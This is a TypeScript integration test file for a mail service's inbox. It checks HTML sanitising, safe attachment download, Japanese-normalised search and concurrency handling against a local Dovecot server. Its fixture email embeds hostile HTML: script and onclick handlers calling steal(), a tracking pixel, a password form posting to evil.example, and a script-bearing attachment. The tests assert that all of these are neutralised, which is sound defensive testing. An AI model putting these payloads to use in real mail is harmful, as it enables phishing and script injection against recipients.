import { findDovecot, type LocalDovecot, startLocalDovecot } from '@libs/local-dovecot';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ApiClient } from '../support/api-client.js';
import {
  allMails,
  connectAccount,
  importCompleted,
  type ListedMail,
  mailsAreHere,
  registerImapServer,
  saveDetails,
} from '../support/mailbox-steps.js';
import { TestService } from '../support/service.js';

const at = (day: number): Date => new Date(Date.UTC(2026, 10, day, 3));
/** One red pixel. */
const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==';
const lines = (...all: string[]): Buffer => Buffer.from(all.join('\r\n'));

const tricky = lines(
  'From: =?UTF-8?B?5L2Q6Jek?= <sato@customer.example>',
  'To: taro@sample.example',
  'Message-ID: <tricky@customer.example>',
  'Date: Tue, 03 Nov 2026 12:00:00 +0900',
  'Subject: tricky',
  'MIME-Version: 1.0',
  'Content-Type: multipart/related; boundary=b',
  '',
  '--b',
  'Content-Type: text/html; charset=UTF-8',
  '',
  '<p onclick="steal()">お世話になっております</p><script>steal()</script>',
  '<img src="cid:logo@customer"><img src="https://tracker.example/open.gif?taro">',
  '<form action="https://evil.example"><input name="password"></form>',
  '--b',
  'Content-Type: text/html; name="=?UTF-8?B?6KuL5rGC5pu4?=.html"',
  'Content-Disposition: attachment',
  '',
  '<script>alert(1)</script>',
  '--b',
  'Content-Type: image/png',
  'Content-ID: <logo@customer>',
  'Content-Transfer-Encoding: base64',
  '',
  PIXEL,
  '--b--',
  '',
);
const mail = (name: string, subject: string, text: string): Buffer =>
  lines(
    `From: ${name} <${name}@customer.example>`,
    `Message-ID: <${name}@customer.example>`,
    'Date: Wed, 04 Nov 2026 12:00:00 +0900',
    `Subject: =?UTF-8?B?${Buffer.from(subject).toString('base64')}?=`,
    'Content-Type: text/plain; charset=UTF-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    text,
    '',
  );

describe.skipIf(findDovecot() === null)('reading and finding mail (skipped where Dovecot is not installed)', () => {
  let service: TestService;
  let dovecot: LocalDovecot;
  let taro: ApiClient;
  let mails: Map<string, ListedMail>;

  const read = async (subject: string, query = '') =>
    (await taro.get(`/inbox/messages/${mails.get(subject)!.id}${query}`)).body;
  const find = async (q: string): Promise<string[]> =>
    (await allMails(taro, `scope=mine&q=${encodeURIComponent(q)}`)).map(({ subject }) => subject).sort();
  const absence = async (query: string) => (await taro.get(`/inbox/absence?${query}`)).body;

  beforeAll(async () => {
    dovecot = await startLocalDovecot({ users: [{ name: 'taro', password: 'secret' }] });
    dovecot.deliver('taro', tricky, { internalDate: at(3) });
    dovecot.deliver('taro', mail('suzuki', '①サンプル㈱の面談〜日程', 'ﾒﾝﾀﾞﾝはABC会議室です'), { internalDate: at(4) });
    dovecot.deliver('taro', mail('tanaka', 'さんぷる請求書', '100% *重要* (最終版)'), { internalDate: at(5) });
    service = await TestService.start();
    taro = await service.as({ userId: 'taro', email: 'taro@sample.example' });
    const admin = await service.as({ userId: 'hanako', roles: ['admin'] });
    await connectAccount(taro, await registerImapServer(admin, dovecot), 'taro', 'secret');
    await saveDetails(taro, '2026-11-02', true);
    await importCompleted(taro);
    mails = new Map((await mailsAreHere(taro, 3)).map((one) => [one.subject, one]));
  }, 60_000);

  afterAll(async () => {
    await service?.remove();
    await dovecot?.stop();
  });

  it('shows HTML without script, form or remote load, with the images that the mail brings', async () => {
    const { html, htmlPolicy, blockedRemote, from } = await read('tricky');
    expect(from).toEqual({ name: '佐藤', address: 'sato@customer.example' });
    expect(html).toContain('お世話になっております');
    expect(html).toContain(`src="data:image/png;base64,${PIXEL}"`);
    expect(html).not.toMatch(/script|onclick|form|input|tracker/i);
    expect(blockedRemote).toBe(1);
    expect(htmlPolicy).toMatch(/^default-src 'none'; img-src data:;/);
    expect(htmlPolicy).toContain('sandbox');
  });

  it('loads what lies elsewhere only when asked to', async () => {
    const { html, htmlPolicy, blockedRemote } = await read('tricky', '?remoteContent=allow');
    expect(html).toContain('https://tracker.example/open.gif?taro');
    expect([blockedRemote, htmlPolicy.includes('img-src data: https: http:')]).toEqual([0, true]);
    expect(html).not.toMatch(/script|onclick|form/i);
  });

  it('hands attachments out to be saved and never to be run', async () => {
    const { id, attachments } = await read('tricky');
    const [page] = attachments.filter(({ inline }: { inline: boolean }) => !inline);
    expect(page.name).toBe('請求書.html');
    const { headers, bytes } = await taro.bytes(`/inbox/messages/${id}/attachments/${page.index}`);
    expect(bytes.toString()).toContain('<script>alert(1)</script>');
    expect(headers.get('content-type')).toBe('application/octet-stream');
    expect(headers.get('content-disposition')).toContain(
      `attachment; filename="___.html"; filename*=UTF-8''${encodeURIComponent('請求書.html')}`,
    );
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
  });

  it('finds Japanese whatever its letters look like, and takes signs for what they are', async () => {
    expect(await find('サンプル')).toEqual(['①サンプル㈱の面談〜日程', 'さんぷる請求書']);
    expect(await find('ｻﾝﾌﾟﾙ')).toHaveLength(2);
    expect(await find('面談～日程')).toEqual(['①サンプル㈱の面談〜日程']);
    expect(await find('(株)')).toEqual(['①サンプル㈱の面談〜日程']);
    expect(await find('めんだん ａｂｃ')).toEqual(['①サンプル㈱の面談〜日程']);
    expect(await find('100% *重要*')).toEqual(['さんぷる請求書']);
    expect(await find('.*')).toEqual([]);
    expect(await find('TANAKA@customer')).toEqual(['さんぷる請求書']);
    expect(await find('面')).toEqual(['①サンプル㈱の面談〜日程']);
  });

  it('finds by who sent it, by name as by address', async () => {
    const from = async (who: string): Promise<string[]> =>
      (await allMails(taro, `from=${encodeURIComponent(who)}`)).map(({ subject }) => subject);
    expect(await from('佐藤')).toEqual(['tricky']);
    expect(await from('ＳＡＴＯ@customer')).toEqual(['tricky']);
    expect(await from('taro')).toEqual([]);
  });

  it('lets nobody decide about a mail that has changed since it was looked at', async () => {
    const path = `/inbox/messages/${mails.get('tricky')!.id}`;
    const seen = (await taro.get(path)).headers.get('etag')!;
    const decide = async (shared: boolean, etag: string) =>
      taro.put(`${path}/sharing`, { shared }, { headers: { 'if-match': etag } });
    const unshared = await decide(false, seen);
    expect([unshared.status, unshared.body.sharing.shared]).toEqual([200, false]);
    expect((await decide(true, seen)).body.code).toBe('precondition_failed');
    expect((await taro.get(path)).headers.get('etag')).toBe(unshared.headers.get('etag'));
    expect((await decide(true, unshared.headers.get('etag')!)).status).toBe(200);
    expect((await decide(true, '*')).status).toBe(200);
  });

  it('explains why a mail is not here', async () => {
    expect(await absence('messageId=tricky@customer.example')).toMatchObject({
      reason: 'here',
      messageIds: [mails.get('tricky')!.id],
    });
    expect(await absence('from=SATO@customer&date=2026-11-03')).toMatchObject({ reason: 'here' });
    expect(await absence('from=sato@customer.example&date=2026-11-01')).toMatchObject({ reason: 'before_import_day' });
    expect(await absence('from=nobody@customer.example&date=2026-11-10')).toMatchObject({ reason: 'not_on_server' });
    const english = await taro.get('/inbox/absence?messageId=never-seen', { headers: { 'accept-language': 'en' } });
    expect(english.body).toMatchObject({ reason: 'not_on_server', server: 'asked', folder: null, problem: null });
    expect(english.body.detail).toContain('another mail program');
    expect(await absence('from=sato@customer.example')).toMatchObject({ status: 422 });

    const jiro = await service.as({ userId: 'jiro', email: 'jiro@sample.example' });
    expect((await jiro.get('/inbox/absence?messageId=tricky@customer.example')).body).toMatchObject({
      reason: 'mailbox_not_connected',
      messageIds: [],
    });
  });

  it('asks the mail server where a mail is that never came, and changes nothing there', async () => {
    dovecot.deliver('taro', mail('junk', 'spam', 'x'), { internalDate: at(5), folder: 'Junk' });
    dovecot.deliver('taro', mail('filed', 'filed', 'x'), { internalDate: at(5), folder: 'Customers' });
    dovecot.deliver('taro', mail('early', 'early', 'x'), { internalDate: new Date(Date.UTC(2026, 9, 20)) });
    const before = dovecot.snapshot('taro').map(({ recent: _changesByBeingSeen, ...entry }) => entry);
    const byId = async (name: string) => absence(`messageId=${encodeURIComponent(`<${name}@customer.example>`)}`);
    expect(await byId('junk')).toMatchObject({ reason: 'in_junk', folder: 'Junk', server: 'asked' });
    expect(await byId('filed')).toMatchObject({ reason: 'in_other_folder', folder: 'Customers' });
    expect((await byId('filed')).detail).toContain('フォルダ: 「Customers」');
    expect(await byId('early')).toMatchObject({ reason: 'before_import_day' });
    expect(dovecot.snapshot('taro').map(({ recent: _recent, ...entry }) => entry)).toEqual(before);
  });

  it('goes and gets what the mail server has and we have not', async () => {
    dovecot.deliver('taro', mail('fresh', 'fresh', 'x'), { internalDate: at(6) });
    const path = '/inbox/absence?from=fresh@customer.example&date=2026-11-06';
    const first = (await taro.get(path)).body;
    // The next regular look may come between the delivery and the question.
    expect(['on_server', 'here']).toContain(first.reason);
    await mailsAreHere(taro, 4);
    expect((await taro.get(path)).body.reason).toBe('here');
  });

  it('goes on saying whose mail it was when the mailbox is released', async () => {
    const saburo = await service.as({ userId: 'saburo', email: 'saburo@sample.example' });
    expect((await taro.delete('/me/mail-setting')).status).toBe(204);
    const [one] = (await saburo.get('/inbox/messages?scope=shared')).body.items;
    expect(one.mailbox).toEqual({ userId: 'taro', address: 'taro@sample.example' });
  });
});
